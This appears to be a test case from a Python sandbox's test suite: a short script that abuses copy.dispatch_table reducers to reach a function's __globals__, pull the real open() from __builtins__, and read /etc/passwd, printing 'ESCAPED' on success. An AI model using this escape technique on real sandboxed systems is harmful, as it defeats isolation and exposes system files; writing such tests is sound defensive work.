# tries: the table of reducers that copy shares with other libraries
# class: reduce
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import copy
import json


class C:
    pass


copy.dispatch_table[C] = lambda c: (getattr, (json.JSONEncoder.default, "__globals__"))
use(dig(copy.copy(C())))
